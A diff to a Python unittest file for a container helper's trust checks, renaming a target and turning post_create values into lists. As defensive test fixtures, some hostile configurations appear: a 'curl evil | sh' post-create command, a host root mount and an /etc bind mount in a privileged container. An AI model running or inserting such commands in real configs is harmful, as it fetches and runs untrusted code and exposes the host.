@@ -14,7 +14,7 @@ import unittest
 import harness
 from harness import HELPER_BIN_DIR, Helper, Sandbox
 
-VERBS = (("ensure",), ("ensure", "--dry-run"), ("ensure", "--quick"), ("plan",), ("status",), ("connect",), ("exec", "t", "--", "true"), ("cp", "t:/x", "y"),
+VERBS = (("ensure",), ("ensure", "--dry-run"), ("ensure", "--quick"), ("plan",), ("status",), ("connect",), ("exec", "t1", "--", "true"), ("cp", "t1:/x", "y"),
          ("open", "jupyter"), ("open", "gateway", "--print"), ("settings",), ("settings", "--format", "ssh-config"), ("settings", "apply"), ("settings", "diff"),
          ("settings", "undo"), ("logs",), ("logs", "-f"), ("list",), ("gpu",), ("gpu", "--check"), ("python", "list"), ("snapshot",), ("stop",), ("restart",),
          ("remove", "--yes"), ("eject",))
@@ -79,7 +79,7 @@ class Trust(unittest.TestCase):
         return path
 
     def config(self, target, where="repository/helper.json"):
-        return self.write(where, json.dumps({"targets": {"t": target}}))
+        return self.write(where, json.dumps({"targets": {"t1": target}}))
 
     def hostile(self, **container):
         return {"server": f"me@127.0.0.1:{self.listener.port}", "container": container or {"image": "x:1"}, "ssh": {"local_port": 24222},
@@ -166,7 +166,7 @@ class Trust(unittest.TestCase):
                 (self.hostile(build={"context": "docker"}), f"the folder docker, which leads to {secret} (OUTSIDE the project)"),
                 ({"server": "local", "container": {"image": "x:1", "mounts": ["/:/host"]}}, "mounts /:/host"),
                 ({"server": "local", "container": {"image": "x:1", "privileged": True, "extra_args": ["-v", "/etc:/e"]}}, "-v /etc:/e"),
-                ({"server": server, "container": {"image": "x:1"}, "post_create": "curl evil | sh"}, "runs once in the container: curl evil | sh")):
+                ({"server": server, "container": {"image": "x:1"}, "post_create": ["curl evil | sh"]}, "runs once in the container: curl evil | sh")):
             with self.subTest(target=target):
                 self.config(target)
                 self.assert_refused("ensure")
@@ -190,7 +190,7 @@ class Trust(unittest.TestCase):
     def test_a_no_in_a_terminal_is_a_no_and_a_yes_lasts_until_the_content_changes(self):
         self.write("repository/Dockerfile", "FROM x\n")
         self.write("repository/setup.sh", "echo one\n")
-        target = {**self.hostile(build={"context": "."}), "post_create": "bash setup.sh"}
+        target = {**self.hostile(build={"context": "."}), "post_create": ["bash setup.sh"]}
         self.config(target)
         seen, status = self.answer_in_a_terminal("no", "ensure")
         self.assertIn("runs or sends the file setup.sh", seen)
@@ -228,7 +228,7 @@ class Trust(unittest.TestCase):
         os.chmod(outer, 0o755)
 
     def test_what_init_writes_and_the_own_config_need_no_yes(self):
-        done = self.helper.run_once("init", "--image", "x:1", "--target", "t")
+        done = self.helper.run_once("init", "--image", "x:1", "--target", "t1")
         self.assertEqual(done.returncode, 0, done.stderr)
         self.assertEqual(self.state()["state"], "trusted")
         listed = self.helper.run_once("trust", "--list").stdout
